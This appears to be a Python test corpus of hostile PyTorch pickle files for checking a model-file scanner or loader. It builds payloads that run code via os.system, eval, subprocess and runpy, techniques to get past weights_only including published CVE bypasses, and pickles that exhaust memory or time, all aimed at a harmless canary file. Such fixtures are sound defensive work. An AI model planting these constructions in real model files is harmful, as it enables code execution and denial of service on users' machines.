"""Pickles that want to execute code, get past ``weights_only``, or take memory or time."""

from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
from collections.abc import Callable
from typing import Any

import torch

from corpus import Corpus, hostile

ROW = b"".join(pickle.dumps(x, 2) for x in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
"""How a file without a container begins; a pickle of tensors and one of storage keys follow."""


class Call:
    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments


def tensor(corpus: Corpus | None = None, key: str = "0", count: int = 4) -> bytes:
    """The instructions of a tensor of ``count`` numbers in a storage."""
    return (
        b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\0\0\0storagectorch\nFloatStorage\n"
        + text(key)
        + text("cpu")
        + b"J"
        + struct.pack("<i", count)
        + b"tQK\0K\x04\x85K\x01\x85\x89"
        b"ccollections\nOrderedDict\n)RtR"
    )


def text(value: str) -> bytes:
    content = value.encode()
    return b"X" + struct.pack("<I", len(content)) + content


def opens(corpus: Corpus) -> bytes:
    return b"cio\nopen\n(" + text(str(corpus.canary)) + text("w") + b"tR"


# Pickles that want to execute code


@hostile
def pickle_writes_a_file(c: Corpus, name: str) -> list[str]:
    return c.pickled(name, pickle.dumps(Call(open, str(c.canary), "w"), 2))


@hostile
def pickle_in_zip_writes_a_file(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, pickle.dumps({"w": Call(os.mkdir, str(c.canary))}, 2))


@hostile
def pickle_calls_out(c: Corpus, name: str) -> list[str]:
    import socket

    return c.zipped(name, pickle.dumps(Call(socket.create_connection, ("127.0.0.1", c.port)), 2))


@hostile
def pickle_starts_a_shell(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, pickle.dumps(Call(os.system, f"touch {c.canary}"), 2))


@hostile
def pickle_evaluates_text(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, pickle.dumps(Call(eval, f"open({str(c.canary)!r}, 'w')"), 2))


@hostile
def pickle_runs_a_module(c: Corpus, name: str) -> list[str]:
    import runpy

    (c.folder / "evil.py").write_text(f"open({str(c.canary)!r}, 'w')\n")
    return c.zipped(name, pickle.dumps(Call(runpy.run_path, str(c.folder / "evil.py")), 2))


@hostile
def pickle_resolves_a_name(c: Corpus, name: str) -> list[str]:
    """The name that is called is a text, so that no list of forbidden imports has it."""
    return c.pickled(
        name,
        b"\x80\x02cpkgutil\nresolve_name\n"
        + text("io:open")
        + b"\x85R("
        + text(str(c.canary))
        + text("w")
        + b"tR.",
    )


@hostile
def pickle_takes_names_from_the_stack(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, pickle.dumps(Call(open, str(c.canary), "w"), 4))


@hostile
def pickle_uses_inst(c: Corpus, name: str) -> list[str]:
    return c.pickled(name, b"\x80\x02(" + text(str(c.canary)) + text("w") + b"iio\nopen\n.")


@hostile
def pickle_uses_obj(c: Corpus, name: str) -> list[str]:
    return c.pickled(name, b"\x80\x02(cio\nopen\n" + text(str(c.canary)) + text("w") + b"o.")


@hostile
def pickle_uses_the_extension_registry(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02\x82\x01.")


@hostile
def pickle_drops_what_it_called(c: Corpus, name: str) -> list[str]:
    """A value that is taken off the stack again, which a decompiler loses."""
    return c.zipped(name, b"\x80\x02" + opens(c) + b"0}.")


@hostile
def pickle_breaks_behind_its_payload(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02" + opens(c) + b"\xff\xff")


@hostile
def pickle_hides_in_an_optimizer(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.pt"
    torch.save(
        {"net": {"w": torch.zeros(2)}, "optimizer": {"hook": Call(open, str(c.canary), "w")}}, path
    )
    return c.scan(path)


@hostile
def pickle_of_a_whole_model(c: Corpus, name: str) -> list[str]:
    path = c.folder / f"{name}.pth"
    torch.save(torch.nn.Linear(2, 2), path)
    return c.scan(path)


@hostile
def pickle_opens_another_file(c: Corpus, name: str) -> list[str]:
    inner = c.folder / "inner.bin"
    inner.write_bytes(pickle.dumps(Call(open, str(c.canary), "w"), 2))
    return c.zipped(name, pickle.dumps(Call(torch.load, str(inner)), 2))


@hostile
def pickle_sets_attributes_of_a_function(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02ctorch._utils\n_rebuild_parameter\n}" + text("x") + b"K\1sb.")


@hostile
def pickle_in_the_second_place(c: Corpus, name: str) -> list[str]:
    """A file of several pickles, the first of them harmless (as the legacy format has them)."""
    return c.pickled(name, ROW + b"\x80\x02" + opens(c) + b".")


def row(c: Corpus, name: str, keys: bytes) -> list[str]:
    """A file without a container whose list of storage keys, the fifth pickle, is ``keys``."""
    state = b"\x80\x02}" + text("stem.weight") + tensor() + b"s."
    return c.pickled(name, ROW + state + keys + struct.pack("<q", 4) + bytes(16))


@hostile
def pickle_in_the_last_place(c: Corpus, name: str) -> list[str]:
    return row(c, name, b"\x80\x02" + opens(c) + b".")


@hostile
def pickle_asks_for_gigabytes_in_the_last_place(c: Corpus, name: str) -> list[str]:
    return row(c, name, b"\x80\x02cbuiltins\nbytearray\nJ" + struct.pack("<i", 3 << 29) + b"\x85R.")


@hostile
def pickle_hashes_for_ever_in_the_last_place(c: Corpus, name: str) -> list[str]:
    grown = b"K\0" + b"".join(b"q\x01h\x01\x86" for _ in range(64))
    return row(c, name, b"\x80\x02]" + grown + b"a.")


# Published ways past weights_only


@hostile
def cve_2025_32434_legacy_tar(c: Corpus, name: str) -> list[str]:
    """Before torch 2.6 the legacy tar format was unpickled without restriction."""
    path = c.folder / f"{name}.pt"
    with tarfile.open(path, "w") as archive:
        for member in ("storages", "tensors", "pickle"):
            content = pickle.dumps(Call(open, str(c.canary), "w"), 2)
            entry = tarfile.TarInfo(member)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return c.scan(path)


@hostile
def cve_2026_24747_items_of_a_tensor(c: Corpus, name: str) -> list[str]:
    """Before torch 2.10 SETITEM wrote through tensors."""
    content = b"\x80\x02" + tensor() + b"K\0G" + struct.pack(">d", 1.0) + b"s."
    return c.zipped(name, content, ("m/data/0", bytes(16)))


@hostile
def cve_2026_24747_storage_of_another_size(c: Corpus, name: str) -> list[str]:
    """Before torch 2.10 the number of elements was believed."""
    content = b"\x80\x02}" + text("stem.weight") + tensor(count=1 << 24) + b"s."
    return c.zipped(name, content, ("m/data/0", bytes(16)))


@hostile
def cve_2026_24747_the_same_without_a_container(c: Corpus, name: str) -> list[str]:
    content = b"\x80\x02}" + text("stem.weight") + tensor(count=1 << 30) + b"s."
    return c.pickled(
        name, ROW + content + pickle.dumps(["0"], 2) + struct.pack("<q", 4) + bytes(16)
    )


# Pickles that take memory or time with names that weights_only allows


@hostile
def pickle_asks_for_a_terabyte(c: Corpus, name: str) -> list[str]:
    return c.zipped(
        name,
        b"\x80\x02cbuiltins\nbytearray\n\x8a\x06" + (1 << 40).to_bytes(6, "little") + b"\x85R.",
    )


@hostile
def pickle_makes_a_large_tensor(c: Corpus, name: str) -> list[str]:
    return c.zipped(
        name, b"\x80\x02ctorch\nFloatTensor\nJ" + struct.pack("<i", 1 << 30) + b"\x85R."
    )


@hostile
def pickle_hashes_for_ever(c: Corpus, name: str) -> list[str]:
    """A key of tuples in tuples, each twice: its hash takes 2⁶⁴ steps."""
    grown = b"K\0" + b"".join(b"q\x01h\x01\x86" for _ in range(64))
    return c.zipped(name, b"\x80\x02}" + grown + b"K\x01s.")


@hostile
def pickle_of_lists_in_lists(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b".")


@hostile
def pickle_of_a_million_instructions(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02" + b"N0" * 600_000 + b"}.")


@hostile
def pickle_of_a_long_number(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02\x8b" + struct.pack("<i", 1 << 20) + b"\x7f" * (1 << 20) + b".")


@hostile
def pickle_of_gigabytes_of_text(c: Corpus, name: str) -> list[str]:
    return c.zipped(name, b"\x80\x02X\xff\xff\xff\xffabc.")


# Whole networks, which are read without their classes


def network(attribute: bytes, parts: bytes = b"}") -> bytes:
    """A network of a class of its own, with one tensor, an attribute and parts."""
    return (
        b"cnets\nNet\n)\x81}("
        + (text("_parameters") + b"}" + text("stem.weight") + tensor() + b"s")
        + (text("_buffers") + b"}" + text("_modules") + parts)
        + (text("size") + attribute)
        + b"ub"
    )


def doubled(times: int) -> bytes:
    """A network of two parts that are one, which has two parts that are one, and so on."""
    made = network(b"N")
    for _ in range(times):
        made = network(b"N", b"}(" + text("a") + made + b"q\x09" + text("b") + b"h\x09u")
    return made


NETWORKS: dict[str, Callable[[Corpus], bytes]] = {
    "of_a_storage_that_hashes_for_ever": lambda c: network(b"N").replace(
        b"J\x04\0\0\0tQ",
        b"J\x04\0\0\0K\0" + b"".join(b"q\x7fh\x7f\x86" for _ in range(64)) + b"tQ",
    ),
    "that_calls": lambda c: network(opens(c)),
    "that_calls_what_it_gets": lambda c: network(
        b"cbuiltins\ngetattr\ncio\nBytesIO\n" + text("x") + b"\x86R" + b")R"
    ),
    "that_gets_what_it_calls": lambda c: network(
        b"cbuiltins\ngetattr\ncnets\nos\n" + text("system") + b"\x86R" + text("true") + b"\x85R"
    ),
    "of_a_class_of_python": lambda c: network(b"csubprocess\nPopen\n" + text("true") + b"\x85\x81"),
    "that_names_a_function_of_python": lambda c: network(b"cposix\nsystem\n"),
    "in_itself": lambda c: (
        b"cnets\nNet\n)\x81q\x05}("
        + (text("_parameters") + b"}" + text("_buffers") + b"}")
        + (text("_modules") + b"}" + text("a") + b"h\x05s")
        + b"ub"
    ),
    "of_two_to_the_sixty_parts": lambda c: doubled(60),
    "of_a_state_that_is_set_twice": lambda c: network(b"N") + b"}b",
    "of_a_tensor_larger_than_the_file": lambda c: network(b"N").replace(
        b"J\x04\0\0\0tQ", b"J\0\0\0\x40tQ"
    ),
}


def whole(name: str, made: Callable[[Corpus], bytes]) -> Callable[[Corpus, str], list[str]]:
    def make(c: Corpus, name: str) -> list[str]:
        return c.zipped(name, b"\x80\x02" + made(c) + b".", ("m/data/0", bytes(16)))

    make.__name__ = f"pickle_of_a_network_{name}"
    return make


for what, made in NETWORKS.items():
    hostile(whole(what, made))
